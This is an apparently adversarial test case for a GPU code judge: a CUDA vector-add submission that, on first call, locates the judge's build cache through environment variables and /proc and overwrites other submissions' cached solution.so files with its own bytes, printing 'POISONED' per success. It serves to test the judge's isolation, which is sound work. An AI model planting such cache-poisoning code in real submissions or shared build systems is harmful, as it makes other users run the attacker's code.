// expect: accepted
// expect-output-lacks: POISONED
// Attacker's intent: poison the build cache. Against the old judge a submission renamed its own solution.so over
// another submission's cached build, and the classmate then ran the attacker's code. On its first call this reads
// its own library (found through dladdr and /proc/self/maps; a stand-in text where it cannot be read, as the bytes
// do not matter to the harm), looks for other builds where this run's judge keeps its cache (JUDGE_CACHE_DIR, else
// the XDG default under HOME, in its own environment and its judge ancestors' /proc/<pid>/environ; the judge's
// folders under /tmp), and replaces every other builds/*/solution.so with those bytes: by writing a file beside it
// and renaming it over it, else by truncating and rewriting it. It prints `POISONED <path>` for each success. Then
// it adds correctly.
// Harmless when only the judge writes its cache: nothing printed, and the test's own check finds the classmate's
// cached build (glue.cu and solution.so, planted in this run's cache) byte for byte as it was. It is correct, so
// `accepted`.
#include <cuda_runtime.h>

#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <map>
#include <string>
#include <vector>

#include "judge_paths.cuh"

namespace {

// Our own library: its path as loaded (a file, or /proc/self/fd/N for one loaded from a descriptor) and its bytes.
struct Own {
  std::string path;
  std::string bytes;
  struct stat st = {};
  bool has_stat = false;
};

Own own_library() {
  Own own;
  Dl_info info{};
  if (dladdr(reinterpret_cast<void*>(&own_library), &info) && info.dli_fname) own.path = info.dli_fname;
  // A library loaded from a descriptor (/proc/self/fd/N) is read through its mapping: the descriptor may have been
  // closed since, and its number taken by another file.
  if (own.path.rfind("/proc/", 0) != 0) {
    own.has_stat = !own.path.empty() && stat(own.path.c_str(), &own.st) == 0;
    own.bytes = slurp(own.path, 64 << 20);
  }
  if (own.bytes.empty()) {
    // Through the mapping that holds this function: /proc/self/map_files/<start>-<end> of its file.
    const auto here = reinterpret_cast<std::uintptr_t>(&own_library);
    std::ifstream maps("/proc/self/maps");
    for (std::string line; std::getline(maps, line);) {
      std::uintptr_t lo = 0, hi = 0;
      if (std::sscanf(line.c_str(), "%lx-%lx", &lo, &hi) != 2 || here < lo || here >= hi) continue;
      own.bytes = slurp("/proc/self/map_files/" + line.substr(0, line.find(' ')), 64 << 20);
      break;
    }
  }
  if (own.bytes.empty()) own.bytes = "POISON: not the library you built\n";
  return own;
}

bool same_file(const std::string& path, const Own& own) {
  struct stat st;
  return own.has_stat && stat(path.c_str(), &st) == 0 && st.st_dev == own.st.st_dev && st.st_ino == own.st.st_ino;
}

bool write_all(int fd, const std::string& bytes) {
  size_t done = 0;
  while (done < bytes.size()) {
    ssize_t n = write(fd, bytes.data() + done, bytes.size() - done);
    if (n <= 0) return false;
    done += static_cast<size_t>(n);
  }
  return true;
}

// Renames a copy of ours over `target`, else rewrites it in place. Returns how, or "" when neither worked.
std::string replace(const std::string& target, const std::string& bytes) {
  const std::string tmp = dirname_of(target) + "/.solution.so.poison";
  int fd = open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (fd >= 0) {
    bool ok = write_all(fd, bytes);
    close(fd);
    if (ok && rename(tmp.c_str(), target.c_str()) == 0) return "renamed over";
    unlink(tmp.c_str());
  }
  fd = open(target.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC);
  if (fd >= 0) {
    bool ok = write_all(fd, bytes);
    close(fd);
    if (ok) return "rewritten";
  }
  return "";
}

void poison_the_cache() {
  const Own own = own_library();
  const std::string own_dir = own.path.rfind("/proc/", 0) == 0 ? std::string() : dirname_of(own.path);
  Places places = find_places();
  int tried = 0;
  for (const auto& cache : places.caches) {
    const std::string builds = cache + "/builds";
    for (const auto& build : list_dir(builds)) {
      const std::string dir = builds + "/" + build, target = dir + "/solution.so";
      if (dir == own_dir || !is_file(target) || same_file(target, own)) continue;
      ++tried;
      const std::string how = replace(target, own.bytes);
      if (!how.empty()) say("POISONED " + target + " (" + how + ")");
    }
  }
  std::fprintf(stderr, "cache: own library %s (%zu bytes); %zu caches guessed, %d other builds tried\n",
               own.path.c_str(), own.bytes.size(), places.caches.size(), tried);
  std::fflush(stderr);
}

__global__ void add(const float* A, const float* B, float* C, int N) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < N) C[i] = A[i] + B[i];
}

}  // namespace

extern "C" void solve(const float* A, const float* B, float* C, int N) {
  static bool poisoned = false;
  if (!poisoned) {
    poisoned = true;
    poison_the_cache();
  }
  add<<<(N + 255) / 256, 256>>>(A, B, C, N);
  cudaDeviceSynchronize();
}
